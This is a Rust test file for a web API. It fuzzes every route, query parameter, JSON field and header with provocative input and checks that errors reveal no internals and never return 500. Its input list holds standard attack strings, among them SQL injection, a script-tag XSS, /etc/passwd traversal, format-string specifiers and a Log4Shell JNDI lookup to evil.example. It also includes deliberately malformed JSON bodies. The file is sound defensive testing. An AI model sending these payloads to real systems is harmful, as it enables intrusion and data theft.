//! Input that is made to provoke errors, in every place that takes any: it is refused in our words or
//! taken as the plain text that it is.

use http::Method;
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use selfie::api::routes::{ROUTES, Take};
use serde_json::{Value, json};

use crate::answer::Answer;
use crate::browser::Browser;
use crate::world::World;

const MODEL: &str = "1600000000000";

fn provocations() -> Vec<String> {
    let mut texts: Vec<String> = [
        "'",
        "\"",
        "' OR 1=1 --",
        "<script>alert(1)</script>",
        "../../../etc/passwd",
        "..\\..\\",
        "\0",
        "%00",
        "%s%n%x",
        "${jndi:ldap://evil.example}",
        "{{7*7}}",
        "\u{202e}",
        "\u{feff}",
        "-1",
        "1e400",
        "NaN",
        "undefined",
        "__proto__",
    ]
    .map(str::to_owned)
    .to_vec();
    texts.push("9".repeat(40));
    texts.push("x".repeat(5000));
    texts
}

/// What tells of our inside: code, paths, tools, and how readers of ours complain.
const INSIDE: [&str; 14] = [
    "panicked",
    "src/",
    ".rs:",
    "stack",
    "backtrace",
    "serde",
    "expected ",
    "line 1",
    "Durable",
    "ledger",
    "KV",
    "Fault",
    "wasm",
    "r8_",
];

/// Taken as plain text, or refused with a problem document that says nothing of our inside.
#[track_caller]
fn is_in_our_words(answer: &Answer, about: &str) {
    assert!(answer.status < 500, "{about}: {}", answer.text());
    if answer.status >= 400 {
        let problem = answer.json();
        let slug = problem["type"]
            .as_str()
            .unwrap()
            .rsplit('/')
            .next()
            .unwrap();
        answer.refused(answer.status, slug);
    }
    for word in INSIDE {
        assert!(
            !answer.text().contains(word),
            "{about}: {word} in {}",
            answer.text()
        );
    }
}

fn encoded(text: &str) -> String {
    utf8_percent_encode(text, NON_ALPHANUMERIC).to_string()
}

/// The bodies that are right, each with every member that its address knows.
fn bodies() -> Vec<(&'static str, String, Value)> {
    let prediction = format!("/api/prediction/{MODEL}_{}", "7".repeat(26));
    vec![
        (
            "POST",
            "/api/magic-link".to_owned(),
            json!({"email": "a@example.com", "next": "/"}),
        ),
        (
            "POST",
            "/api/magic-link/confirm".to_owned(),
            json!({"token": "x"}),
        ),
        (
            "POST",
            "/api/magic-link/confirm".to_owned(),
            json!({"code": "x"}),
        ),
        ("POST", "/api/consent".to_owned(), json!({"version": "x"})),
        (
            "POST",
            "/api/model".to_owned(),
            json!({"name": "x", "subject": "pet"}),
        ),
        ("PATCH", format!("/api/model/{MODEL}"), json!({"name": "x"})),
        (
            "PATCH",
            format!("/api/bytescale/{}?model={MODEL}", "7".repeat(26)),
            json!({"caption": "x"}),
        ),
        ("POST", "/api/zipper".to_owned(), json!({"model": MODEL})),
        (
            "POST",
            "/api/genmodel".to_owned(),
            json!({"model": MODEL, "preset": "fast"}),
        ),
        (
            "POST",
            "/create".to_owned(),
            json!({
                "model": MODEL, "prompt": "x", "version": "v1", "style": null, "seed": 1,
                "aspect_ratio": "1:1", "count": 1, "format": "jpg",
            }),
        ),
        ("PATCH", prediction, json!({"favorite": true})),
    ]
}

/// CS-09
#[test]
fn what_provokes_errors_is_answered_in_our_words() {
    let world = World::new();
    let ana = world.ana();
    for text in provocations() {
        for route in ROUTES.iter().filter(|route| route.pattern.contains('{')) {
            let (before, _) = route.pattern.split_once('{').unwrap();
            let path = format!("{before}{}?model={MODEL}", encoded(&text));
            let request = ana.request(route.method.as_str(), &path).fresh_key();
            let answer = request.json(&json!({})).send();
            is_in_our_words(&answer, &path);
        }
        for path in ["/api/model", "/api/prediction", "/api/bytescale", "/create"] {
            for name in ["limit", "cursor", "model", "favorite", "q", &text] {
                let path = format!("{path}?{}={}", encoded(name), encoded(&text));
                is_in_our_words(&ana.get(&path), &path);
            }
        }
        for (method, path, body) in bodies() {
            for name in body.as_object().unwrap().keys() {
                let mut wrong = body.clone();
                wrong[name] = json!(text);
                let request = ana.request(method, &path).json(&wrong).fresh_key();
                is_in_our_words(&request.send(), &format!("{path} {name} {text}"));
            }
            let mut wrong = body.clone();
            wrong[&text] = json!(1);
            let request = ana.request(method, &path).json(&wrong).fresh_key();
            is_in_our_words(&request.send(), &format!("{path} and {text}"));
        }
        in_headers(&ana, &text);
    }
}

fn in_headers(ana: &Browser<'_>, text: &str) {
    let text: String = text.chars().filter(char::is_ascii_graphic).collect();
    let body = json!({"model": MODEL, "prompt": "x"});
    for name in [
        "authorization",
        "cookie",
        "content-type",
        "idempotency-key",
        "origin",
        "sec-fetch-site",
        "user-agent",
        "x-photo-name",
    ] {
        let request = ana.request("POST", "/create").json(&body).fresh_key();
        let answer = request.header(name, &text).send();
        is_in_our_words(&answer, &format!("{name}: {text}"));
    }
}

fn hostile_bodies() -> Vec<Vec<u8>> {
    let deep = |open: &str, close: &str| {
        format!("{{\"name\":{}1{}}}", open.repeat(100), close.repeat(100)).into_bytes()
    };
    let utf16: Vec<u8> = "{\"name\":\"x\"}"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let mut bodies = vec![
        deep("[", "]"),
        deep("{\"a\":", "}"),
        "[".repeat(10_000).into_bytes(),
        format!("{{\"name\":\"{}\"}}", "n".repeat(1024 * 1024)).into_bytes(),
        [b"\xff\xfe".as_slice(), &utf16].concat(),
        utf16,
    ];
    let texts: [&[u8]; 14] = [
        b"",
        b"{",
        b"[]",
        b"null",
        b"\"name\"",
        b"{\"name\":\"x\",\"name\":\"y\"}",
        b"{\"name\":1e400}",
        b"{\"name\":-1e400}",
        b"{\"name\":\"\\ud800\"}",
        b"{\"name\":\"\\udc00\\ud800\"}",
        b"\xef\xbb\xbf{\"name\":\"x\"}",
        b"{\"name\":\"\xff\"}",
        b"{\"name\":NaN}",
        b"{\"name\":\"x\"} {\"name\":\"x\"}",
    ];
    bodies.extend(texts.map(<[u8]>::to_vec));
    bodies
}

/// RO-02
#[test]
fn hostile_json_is_refused_wherever_json_is_taken() {
    let world = World::new();
    let ana = world.ana();
    let takes_json = |route: &&selfie::api::routes::Route| route.take == Take::Json;
    for route in ROUTES.iter().filter(takes_json) {
        let path = route
            .pattern
            .replace("{model}", MODEL)
            .replace("{photo}", &"7".repeat(26))
            .replace("{prediction}", &format!("{MODEL}_{}", "7".repeat(26)));
        let path = format!("{path}?model={MODEL}");
        for body in hostile_bodies() {
            let request = ana.request(route.method.as_str(), &path).fresh_key();
            let answer = world.without_traces(|| request.body("application/json", &body).send());
            let shown = String::from_utf8_lossy(&body[..body.len().min(80)]).into_owned();
            assert!(
                (400..500).contains(&answer.status),
                "{path} {shown}: {} {}",
                answer.status,
                answer.text()
            );
            is_in_our_words(&answer, &shown);
        }
    }
    assert_eq!(
        ana.request(Method::GET.as_str(), "/api/health")
            .send()
            .status,
        200
    );
}
